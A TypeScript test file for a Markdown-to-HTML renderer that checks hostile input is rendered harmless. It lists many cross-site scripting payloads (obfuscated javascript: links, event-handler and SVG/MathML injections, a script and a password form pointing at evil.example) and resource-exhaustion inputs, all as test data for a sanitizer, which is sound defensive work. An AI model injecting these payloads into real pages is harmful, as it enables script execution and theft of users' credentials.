import { type DefaultTreeAdapterTypes, parseFragment } from "parse5";
import { describe, expect, test } from "vitest";
import { renderMarkdown } from "./markdown.ts";

type Node = DefaultTreeAdapterTypes.ChildNode;
type Element = DefaultTreeAdapterTypes.Element;

function elementsOf(markdown: string): Element[] {
  const found: Element[] = [];
  const visit = (nodes: readonly Node[]) => {
    for (const node of nodes) {
      if (!("tagName" in node)) continue;
      found.push(node);
      visit(node.childNodes);
    }
  };
  visit(parseFragment(renderMarkdown(markdown)).childNodes);
  return found;
}

const tagsOf = (markdown: string) => elementsOf(markdown).map(({ tagName }) => tagName);
const hrefsOf = (markdown: string) =>
  elementsOf(markdown).flatMap(({ attrs }) => attrs.filter(({ name }) => name === "href").map(({ value }) => value));
const textOf = (nodes: readonly Node[]): string =>
  nodes.map((node) => ("value" in node ? node.value : "childNodes" in node ? textOf(node.childNodes) : "")).join("");
const shownText = (markdown: string) => textOf(parseFragment(renderMarkdown(markdown)).childNodes);

const harmless = new Set(
  "p br strong em s a ul ol li code pre blockquote hr h4 h5 h6 table thead tbody tr th td".split(" "),
);
const attributes = new Set(["a href", "a rel", "ol start"]);

function faultsOf(markdown: string): string[] {
  return elementsOf(markdown).flatMap(({ tagName, attrs }) => [
    ...(harmless.has(tagName) ? [] : [tagName]),
    ...attrs.flatMap(({ name, value }) => {
      if (!attributes.has(`${tagName} ${name}`)) return [`${tagName} ${name}`];
      // Parses like a browser, without white space and control characters.
      if (name === "href" && !["http:", "https:", "mailto:"].includes(new URL(value, "file:///").protocol))
        return [value];
      return [];
    }),
  ]);
}

const scripts = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java&#9;script:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;&#x61;vascript:alert(1)",
  "&#0000106avascript:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript\\:alert(1)",
  "javascript%3Aalert(1)",
  "\u0001javascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "data:image/png;base64,AAAA",
  "file:///etc/passwd",
  "blob:https://example.com/1",
  "ftp://example.com",
  "//example.com",
  "/api/monitors",
  "#top",
  "?x",
  "x:y",
];

describe.each(scripts)("the address %j", (address) => {
  test.each([
    ["a link", `[click](${address})`],
    ["a link in angle brackets", `[click](<${address}>)`],
    ["a link with a title", `[click](${address} "title")`],
    ["a reference", `[click][1]\n\n[1]: ${address}`],
    ["a reference in angle brackets", `[click][1]\n\n[1]: <${address}>`],
    ["an autolink", `<${address}>`],
    ["text", address],
    ["an image", `![click](${address})`],
    ["an image within a link", `[![click](${address})](${address})`],
  ])("in %s is not a link", (_what, markdown) => {
    expect(faultsOf(markdown)).toEqual([]);
    expect(hrefsOf(markdown).filter((href) => !/^https?:\/\/|^mailto:/.test(href))).toEqual([]);
  });
});

test.each([
  ["a script", "<script>alert(1)</script>"],
  ["a script within a paragraph", "a <script src=//evil.example/x.js></script> b"],
  ["an image that fails", "<img src=x onerror=alert(1)>"],
  ["an image with a slash", "<img/src='x'/onerror=alert(1)>"],
  ["an SVG image", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"],
  [
    "mathematics",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  ],
  ["a frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"],
  ["a style sheet", "<style>*{display:none}</style>"],
  ["a base", "<base href=//evil.example>"],
  ["a meta refresh", "<meta http-equiv=refresh content='0;url=//evil.example'>"],
  ["a form", "<form action=//evil.example><input name=password></form>"],
  ["a comment", "<!--><img src=x onerror=alert(1)>-->"],
  ["a processing instruction", "<?xml version='1.0'?><x onclick=alert(1)>"],
  ["a CDATA section", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
  ["an unclosed element", "<a href='https://example.com' onclick=alert(1)"],
  ["an event in a link's title", `[a](https://example.com "\\" onmouseover=alert(1) x=\\"")`],
  ["an event in a link's address", `[a](https://example.com/"onmouseover="alert(1))`],
  ["an event in an autolink", `<https://example.com/"onmouseover="alert(1)>`],
  ["an event in a bare address", `https://example.com/"onmouseover="alert(1)`],
  ["entities of an element", "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;"],
  ["double-escaped entities", "&amp;lt;script&amp;gt;"],
  ["code that ends its element", "`</code><script>alert(1)</script>`"],
  ["a fence that ends its element", "```\n</code></pre><script>alert(1)</script>\n```"],
  ["a fence's language", '```x" onclick="alert(1)\nx\n```'],
  ["indented code", "    </pre><img src=x onerror=alert(1)>"],
  ["an image's description", `![<img src=x onerror=alert(1)>"'](https://example.com/x.png)`],
  ["a table's cells", "|<script>|\n|:-:|\n|<img src=x onerror=alert(1)>|"],
  ["a heading", "# <script>alert(1)</script>"],
  ["emphasis around an element", "**<b onclick=alert(1)>x</b>**"],
  ["a link within a link", "[a [b](javascript:alert(1)) c](https://example.com)"],
  ["an image within a link's text", "[![x](https://example.com/a.png)](https://example.com)"],
  ["a reference's title", `[a]\n\n[a]: https://example.com '"><script>alert(1)</script>'`],
  ["a quote within a list within a quote", "> - > <script>alert(1)</script>"],
  ["NUL and a lone surrogate", "<scr\0ipt>alert(1)</scr\0ipt> \ud800"],
  ["a long row of quotes", `${"> ".repeat(200)}<script>alert(1)</script>`],
  ["a wide table", `${"|<b>".repeat(3000)}|\n${"|-".repeat(3000)}|`],
])("%s is shown as text, or not at all", (_what, markdown) => {
  expect(faultsOf(markdown)).toEqual([]);
});

test("raw HTML is shown as written", () => {
  expect(shownText("a <b onclick=x>bold</b> <!-- c -->")).toBe("a <b onclick=x>bold</b> <!-- c -->");
});

test("links send no referrer and pass on no ranking", () => {
  const links = elementsOf(
    "[a](https://example.com/?a=1&b=2) <https://b.example> https://c.example x@d.example",
  ).filter(({ tagName }) => tagName === "a");
  expect(links.map(({ attrs }) => Object.fromEntries(attrs.map(({ name, value }) => [name, value])))).toEqual(
    ["https://example.com/?a=1&b=2", "https://b.example", "https://c.example", "mailto:x@d.example"].map((href) => ({
      href,
      rel: "nofollow noopener noreferrer",
    })),
  );
});

test("file names are not links", () => {
  expect(hrefsOf("See README.md and example.sh, or 10.0.0.1")).toEqual([]);
});

test("headings are below those of the page", () => {
  expect(tagsOf("# a\n## b\n### c\n###### d\n\ne\n===")).toEqual(["h4", "h5", "h6", "h6", "h4"]);
});

test("images are replaced by their description, and nothing is fetched", () => {
  expect(shownText("before ![a *fine* chart](https://example.com/a.png) after")).toBe("before a fine chart after");
});

test("renders common Markdown as intended", () => {
  expect(tagsOf("**a** *b* ~~c~~ `d`\n\n1. e\n2. f\n\n- g\n\n> h\n\n---\n\n```\ni\n```")).toEqual(
    "p strong em s code ol li li ul li blockquote p hr pre code".split(" "),
  );
  expect(tagsOf("|a|b|\n|-|:-:|\n|1|2|")).toEqual("table thead tr th th tbody tr td td".split(" "));
});

describe("a hostile text", () => {
  const filled = (part: string) => part.repeat(Math.ceil(4000 / part.length)).slice(0, 4000);
  const wide = (columns: number) => `|${"a|".repeat(columns)}\n|${"-|".repeat(columns)}\n${"|\n".repeat(1500)}`;

  test.each([
    ["quotes in quotes", filled("> ")],
    ["lists in lists", filled("- + ")],
    ["quotes in lists", filled("> - ")],
    ["indented lists", Array.from({ length: 60 }, (_none, at) => `${"  ".repeat(at)}- a`).join("\n")],
  ])("of %s is shown as plain text, completely", (_what, markdown) => {
    expect(shownText(markdown).replace(/\s/g, "")).toBe(markdown.replace(/\s/g, ""));
  });

  test.each([
    ["brackets", filled("[")],
    ["unclosed links", filled("[a](")],
    ["emphasis", filled("*a _b **c ")],
    ["unclosed emphasis", filled("*")],
    ["backticks", Array.from({ length: 80 }, (_none, at) => "`".repeat(at)).join(" ")],
    ["angle brackets", filled("<a ")],
    ["entities", filled("&#1")],
    ["references", filled("[a]: b\n")],
    ["a table of many columns", wide(600).slice(0, 4000)],
    ["a table of short rows", `|${"a|".repeat(20)}\n|${"-|".repeat(20)}\n${"|\n".repeat(200)}`],
    ["a table of many rows", `a|b\n-|-\n${filled("a|b\n")}`],
    ["lines that continue a deep quote", `${"> ".repeat(30)}a\n${filled("a\n")}`],
  ])("of %s grows only a little", (_what, markdown) => {
    expect(renderMarkdown(markdown).length).toBeLessThan(8 * markdown.length + 2000);
    expect(faultsOf(markdown)).toEqual([]);
  });

  test("with a table of too many cells is plain text, since filling it up would take long", () => {
    const table = `|${"a|".repeat(60)}\n|${"-|".repeat(60)}\n${"|\n".repeat(120)}`;
    expect(tagsOf(`${"word ".repeat(4000)}\n\n${table}`)).not.toContain("table");
  });
});

test("shows blank lines in code as one", () => {
  const lines = `a\n\nb\n${" \n".repeat(2)}c\n${"\n".repeat(40_000)}d`;
  expect(renderMarkdown(`\`\`\`\n${lines}\n\`\`\``)).toBe("<pre><code>a\n\nb\n\nc\n\nd\n</code></pre>");
});
